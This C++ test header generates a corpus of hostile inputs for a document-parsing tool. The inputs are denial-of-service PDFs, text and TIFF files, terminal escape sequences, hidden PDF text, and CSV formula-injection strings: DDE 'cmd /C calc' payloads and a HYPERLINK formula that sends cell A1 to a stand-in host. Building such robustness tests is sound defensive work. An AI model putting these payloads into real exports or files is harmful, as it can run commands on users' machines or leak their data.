// tests/testing/hostile.h: generated hostile inputs, the corpus of issue 14
// ("hostile input costs only itself"): files an attacker or an unlucky
// archive would hand tally, each aimed at one weakness (super-linear work,
// unbounded memory, control characters, formula cells, hidden text, odd
// file structure). Small enough to generate in a test; `scale` makes the
// stress benchmark's bigger copies (tools/gen_hostile, bench_hostile.sh).
//
//   for (const auto& h : tally::testing::HostileInputs(1)) {
//     WriteFile(dir + "/" + h.name, h.bytes);
//   }
#ifndef TALLY_TESTS_TESTING_HOSTILE_H_
#define TALLY_TESTS_TESTING_HOSTILE_H_

#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

#include "testing/pdf_file.h"

namespace tally::testing {

// A PDF of the given page content streams, all pages A4 with the font F1
// (Helvetica, or the font object given: a dictionary body) and F2
// (Helvetica with a ToUnicode map that sends 'A' to U+001B ESC, 'B' to
// U+009B CSI and 'C' to U+0007 BEL).
inline std::string PdfOf(const std::vector<std::string>& contents,
                         double width = 595, double height = 842) {
  std::vector<std::string> objects;
  auto object = [&](const std::string& body) { objects.push_back(body); };
  // 1 catalog, 2 pages, 3 F1, 4 F2, 5 F2's ToUnicode, then page + content.
  std::string kids;
  for (size_t p = 0; p < contents.size(); ++p) {
    kids += std::to_string(6 + 2 * p) + " 0 R ";
  }
  object("<< /Type /Catalog /Pages 2 0 R >>");
  object("<< /Type /Pages /Kids [" + kids + "] /Count " +
         std::to_string(contents.size()) + " >>");
  object("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  object(
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 5 0 R "
      ">>");
  std::string cmap =
      "/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
      "/CMapName /Hostile def 1 begincodespacerange <00> <FF> "
      "endcodespacerange\n"
      "3 beginbfchar <41> <001B> <42> <009B> <43> <0007> endbfchar\n"
      "endcmap CMapName currentdict /CMap defineresource pop end end";
  object("<< /Length " + std::to_string(cmap.size()) + " >>\nstream\n" + cmap +
         "\nendstream");
  for (size_t p = 0; p < contents.size(); ++p) {
    object("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 " +
           std::to_string(width) + " " + std::to_string(height) +
           "] "
           "/Resources << /Font << /F1 3 0 R /F2 4 0 R >> >> /Contents " +
           std::to_string(7 + 2 * p) + " 0 R >>");
    object("<< /Length " + std::to_string(contents[p].size()) +
           " >>\nstream\n" + contents[p] + "\nendstream");
  }
  return PdfFile(objects);
}

// A line of text at (x, y) from the top of an A4 page, 12 pt Helvetica.
inline std::string TextAt(double x, double y, const std::string& text,
                          const std::string& state = "") {
  char pos[64];
  std::snprintf(pos, sizeof pos, "%.2f %.2f Td ", x, 842 - y);
  // q ... Q: a colour set for this text does not outlive it.
  return "q BT /F1 12 Tf " + state + std::string(pos) + "(" + text +
         ") Tj ET Q\n";
}

// A page ruled n x n (n + 1 lines each way, `step` points apart, on a page
// made large enough), with a line of text beside it. n = 46342 made rows *
// cols overflow an int.
inline std::string LatticePdf(int n, double step) {
  std::string c = "0.1 w\n";
  char buf[96];
  double x0 = 20, y0 = 20, len = n * step;
  for (int k = 0; k <= n; ++k) {
    std::snprintf(buf, sizeof buf, "%.2f %.2f m %.2f %.2f l\n", x0,
                  y0 + k * step, x0 + len, y0 + k * step);
    c += buf;
    std::snprintf(buf, sizeof buf, "%.2f %.2f m %.2f %.2f l\n", x0 + k * step,
                  y0, x0 + k * step, y0 + len);
    c += buf;
  }
  c += "S\n";
  double side = len + 40;
  char text[128];
  std::snprintf(text, sizeof text,
                "q BT /F1 12 Tf 30 %.2f Td (Budget total 12.5 and rate 85%%.) "
                "Tj ET Q\n",
                side - 12);
  c += text;
  return PdfOf({c}, side, side);
}

inline std::string Repeat(const std::string& s, size_t n) {
  std::string out;
  out.reserve(s.size() * n);
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

// One line of n facts and no sentence end: each fact once stored its whole
// sentence (the whole line) as context.
inline std::string FactsLine(size_t n) { return Repeat("资金12.5万元，", n); }

// A 其中 list of n parts after its total.
inline std::string QizhongList(size_t n) {
  std::string s = "项目资金总额" + std::to_string(n) + "万元，其中：";
  for (size_t i = 0; i < n; ++i) {
    s += "子项" + std::to_string(i + 1) + "资金1万元";
    s += i + 1 < n ? "、" : "。\n";
  }
  return s;
}

// A run of digits: the pattern scan restarted one character after each
// rejected match, re-reading the rest of the run every time.
inline std::string DigitRun(size_t n) {
  std::string s;
  s.reserve(n);
  for (size_t i = 0; i < n; ++i) s += char('0' + (i * 7 + 3) % 10);
  return s + "\n";
}

// n pages of text (form feeds), each a short report line.
inline std::string ManyPagesText(size_t n) {
  std::string s;
  for (size_t i = 0; i < n; ++i) {
    s += "第" + std::to_string(i + 1) + "页：本页预算12.5万元，执行率85%。\n\f";
  }
  return s;
}

// Report-like text of about `bytes` bytes: the same few sentences, many
// times over (every sentence a restatement of others).
inline std::string BigText(size_t bytes) {
  const std::string block =
      "一、项目基本情况\n本项目年度预算资金437.32万元，实际支出420.10万元，"
      "执行率96.06%。\n其中：医疗救助资金200万元、临时救助资金220.10万元。\n"
      "服务对象满意度达到95%以上，项目自评得分92分，评价等级为优秀。\n";
  return Repeat(block, bytes / block.size() + 1);
}

// Text with control characters: ESC and C1 sequences that would clear a
// terminal, a BEL, a backspace.
inline std::string ControlText() {
  return "一、基本情况\n医保基金\x1b[2J\x1b[H实际拨付437.32元，\x07"
         "其余\xc2\x9b"
         "31m资金均以万元计：住院补助300万元，门诊补助200万元。\n"
         "退格\b测试资金12万元。\n";
}

// Text whose cells, exported as CSV, start with what spreadsheets run as a
// formula: = + - @ and a tab, before a fact.
inline std::string FormulaText() {
  return "=HYPERLINK(\"http://x.invalid/\"&A1)资金12万元。\n"
         "+cmd|' /C calc'!A0资金13万元。\n"
         "-2+3+cmd|' /C calc'!A0资金14万元。\n"
         "@SUM(1+1)*cmd|' /C calc'!A0资金15万元。\n"
         "\t=1+1资金16万元。\n";
}

// "1E+999%": an exponent is part of its number, not a percentage of 999.
inline std::string ExponentText() {
  return "增长率为1E+999%，另一增长率为2e-5%，执行率为85%。\n";
}

// A TIFF of n 8 x 8 bilevel pages sharing one strip: every IFD is a page.
inline std::string ManyPagesTiff(int n) {
  std::string out = std::string("II*\0", 4);
  auto u16 = [&](uint16_t v) { out += char(v & 0xFF), out += char(v >> 8); };
  auto u32 = [&](uint32_t v) {
    for (int i = 0; i < 4; ++i) out += char((v >> (8 * i)) & 0xFF);
  };
  u32(8 + 8);  // first IFD after the strip
  // The shared strip: 8 rows of 1 byte, white (0 is white, see below).
  out += std::string(8, '\0');
  const uint16_t kEntries = 9;
  const uint32_t kIfdSize = 2 + kEntries * 12 + 4;
  for (int p = 0; p < n; ++p) {
    uint32_t here = uint32_t(out.size());
    u16(kEntries);
    auto entry = [&](uint16_t tag, uint16_t type, uint32_t value) {
      u16(tag);
      u16(type);
      u32(1);
      u32(value);
    };
    entry(256, 3, 8);  // ImageWidth
    entry(257, 3, 8);  // ImageLength
    entry(258, 3, 1);  // BitsPerSample
    entry(259, 3, 1);  // Compression: none
    entry(262, 3, 0);  // Photometric: WhiteIsZero
    entry(273, 4, 8);  // StripOffsets
    entry(277, 3, 1);  // SamplesPerPixel
    entry(278, 3, 8);  // RowsPerStrip
    entry(279, 4, 8);  // StripByteCounts
    u32(p + 1 < n ? here + kIfdSize : 0);
  }
  return out;
}

// Text drawn so nobody sees it: render mode 3 (invisible), white on the
// white page, and at 0.01 pt; beside the visible text that says otherwise.
inline std::string HiddenTextPdf() {
  return PdfOf({TextAt(72, 100, "Budget execution rate 85%. Score 90.") +
                TextAt(72, 130, "Hidden rate 99.9%.", "3 Tr ") +
                TextAt(72, 160, "White rate 77.7%.", "1 1 1 rg ") +
                "BT /F1 0.01 Tf 72 650 Td (Tiny rate 66.6%.) Tj ET\n" +
                TextAt(72, 190, "Visible total 12.5 units.")});
}

// A page whose font's ToUnicode map turns glyphs into ESC, CSI and BEL.
inline std::string ControlCharPdf() {
  return PdfOf({TextAt(72, 100, "Budget execution rate 85% and more text.") +
                "BT /F2 12 Tf 72 700 Td (ABCA[2JBC rate 12%) Tj ET\n"});
}

// A PDF of n blank pages (no text layer: every page would be OCR'd).
inline std::string BlankPagesPdf(int n) {
  return PdfOf(std::vector<std::string>(size_t(n), std::string()));
}

struct HostileInput {
  std::string name;  // file name; the extension is only a hint
  std::string bytes;
  std::string what;  // the weakness it probes
};

// The corpus at a scale: 1 for tests (each input small and quick), larger
// for the stress benchmark (10 reaches the sizes of issue 14's report).
inline std::vector<HostileInput> HostileInputs(int scale) {
  size_t s = size_t(scale);
  return {
      {"lattice.pdf", LatticePdf(46342, 4),
       "a page ruled 46,342 x 46,342 (rows x cols overflowed an int)"},
      {"lattice_small.pdf", LatticePdf(400 * (scale > 1 ? 2 : 1), 4),
       "a 40 KB lattice: table reading grew with rows x cols x rules"},
      {"facts_line.txt", FactsLine(3000 * s),
       "one line of facts with no sentence end (context was the line)"},
      {"qizhong.txt", QizhongList(10000 * s), "a 其中 list of many parts"},
      {"digits.txt", DigitRun(6000 * s), "a run of digits (pattern rescans)"},
      {"many_pages.txt", ManyPagesText(10000 * s),
       "10,000 pages of text per scale (page statistics per page)"},
      {"big.txt", BigText(2'000'000 * s),
       "megabytes of restated sentences (all-pairs comparisons)"},
      {"control.txt", ControlText(), "terminal escape sequences in the text"},
      {"formula.txt", FormulaText(), "CSV formula injection"},
      {"exponent.txt", ExponentText(), "1E+999% is not 999%"},
      {"many_pages.tif", ManyPagesTiff(int(10001 * s / 10 + 1)),
       "a TIFF of thousands of pages (page access was quadratic)"},
      {"hidden.pdf", HiddenTextPdf(), "invisible, white and 0.01 pt text"},
      {"control.pdf", ControlCharPdf(), "a ToUnicode map to control codes"},
      {"blank_pages.pdf", BlankPagesPdf(int(20 * s)),
       "blank pages, each sent to OCR"},
  };
}

}  // namespace tally::testing

#endif  // TALLY_TESTS_TESTING_HOSTILE_H_
